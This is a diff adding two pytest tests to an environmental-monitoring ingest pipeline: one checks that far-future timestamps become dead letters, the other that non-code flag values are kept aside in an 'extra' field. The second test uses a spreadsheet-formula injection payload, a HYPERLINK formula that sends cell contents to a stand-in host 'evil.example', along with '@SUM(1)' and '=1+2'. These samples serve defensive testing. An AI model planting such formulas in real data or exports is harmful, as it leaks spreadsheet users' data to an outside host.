@@ -9,7 +9,10 @@ from zoneinfo import ZoneInfo
 
 import psycopg
 import pytest
+from fastapi.testclient import TestClient
 
+from api.app import create_app
+from api.settings import ApiSettings
 from ingest.hj212 import build_packet, build_segment, encode_cp, parse_packet
 from tests.fixtures.mqtt import collector, publisher, running_worker, wait_until
 from tests.fixtures.registry import add_outlet
@@ -229,3 +232,66 @@ def test_workers_in_a_shared_group_split_the_load(
     assert one.worker.stats.messages + two.worker.stats.messages == 200
     assert one.worker.stats.messages > 0 and two.worker.stats.messages > 0
     assert scalar(db, "SELECT count(*) FROM measurements") == 400
+
+
+def test_data_from_the_future_is_a_dead_letter_and_does_not_blank_the_chart(
+    db: psycopg.Connection, role_urls: dict[str, str], mqtt_url: str
+) -> None:
+    """Issue 15: one frame dated 9999 used to become the outlet's latest data for good, and the
+    public chart (drawn up to the latest data) went blank. Now it is a dead letter."""
+    oid = add_outlet(db, MN)
+    shanghai = ZoneInfo("Asia/Shanghai")
+    honest = datetime.now(shanghai).replace(tzinfo=None, microsecond=0) - timedelta(minutes=5)
+    soon = honest + timedelta(minutes=15)  # 10 minutes ahead: a drifting clock, within 15
+    far = datetime(9999, 12, 31, 23, 0, 0)
+    body = {"mn": MN, "pw": "123456", "cn": "2011", "data_time": "9999-12-31T23:00:00+08:00"}
+    body["values"] = {"a21026": {"Rtd": "5", "Flag": "N"}}
+    with running_worker(mqtt_url, role_urls["ingest"]), publisher(mqtt_url) as publish:
+        publish(f"hj212/{MN}/up", rtd("35.2", when=honest))
+        publish(f"hj212/{MN}/up", rtd("36.1", when=far))
+        publish(f"hj212/{MN}/up", rtd("37.0", when=honest + timedelta(days=1)))
+        publish(f"sourcewatch/v1/{MN}/data", json.dumps(body).encode())
+        publish(f"hj212/{MN}/up", rtd("35.9", when=soon))
+        wait_until(lambda: scalar(db, "SELECT count(*) FROM dead_letters") == 3, what="3 dead")
+        wait_until(lambda: scalar(db, "SELECT count(*) FROM frames") == 2, what="2 frames")
+    reasons = db.execute("SELECT reason, detail FROM dead_letters ORDER BY id").fetchall()
+    assert [r for r, _ in reasons] == ["future"] * 3
+    assert "9999-12-31T23:00:00+08:00" in reasons[0][1]
+    last = scalar(db, "SELECT last_data_at FROM outlet_activity")
+    assert last == soon.replace(tzinfo=shanghai)
+    assert scalar(db, "SELECT max(ts) FROM measurements") == soon.replace(tzinfo=shanghai)
+    settings = ApiSettings(database_url=role_urls["api"], api_rate_limit_per_minute=10_000)
+    with TestClient(create_app(settings)) as client:
+        status = client.get(f"/v1/outlets/{oid}").json()["status"]
+        assert status["last_data"]["local"] == soon.replace(tzinfo=shanghai).isoformat()
+
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+def test_flags_that_are_no_code_are_not_stored_as_flags(
+    db: psycopg.Connection, database_url: str, mqtt_url: str
+) -> None:
+    """Issue 15: a flag must be a ``data_flags`` code; anything else (a spreadsheet formula) is
+    kept only as sent in ``extra``, and the value is not valid."""
+    add_outlet(db, MN, kind="water")
+    body = {"mn": MN, "pw": "123456", "cn": "2061", "data_time": "2026-11-28T08:00:00+08:00"}
+    body["values"] = {
+        "w01018": {"Avg": "23.5", "Flag": EVIL},
+        "w21003": {"Avg": "1.5", "Flag": "n", "EFlag": "@SUM(1)"},
+        "w00000": {"Avg": "12", "Flag": "D", "EFlag": "A01"},
+    }
+    with running_worker(mqtt_url, database_url), publisher(mqtt_url) as publish:
+        publish(f"sourcewatch/v1/{MN}/data", json.dumps(body).encode())
+        publish(f"hj212/{MN}/up", rtd("35.2", flag="=1+2", when=T0 + timedelta(hours=1)))
+        wait_until(lambda: scalar(db, "SELECT count(*) FROM measurements") == 5, what="5 rows")
+    rows = db.execute(
+        "SELECT pollutant, flag, eflag, extra FROM measurements ORDER BY pollutant"
+    ).fetchall()
+    assert rows == [
+        ("a19001", "N", None, None),
+        ("a21026", None, None, {"Flag": "=1+2"}),
+        ("w00000", "D", "A01", None),
+        ("w01018", None, None, {"Flag": EVIL}),
+        ("w21003", "n", None, {"EFlag": "@SUM(1)"}),  # lower case: a code, stored as sent
+    ]
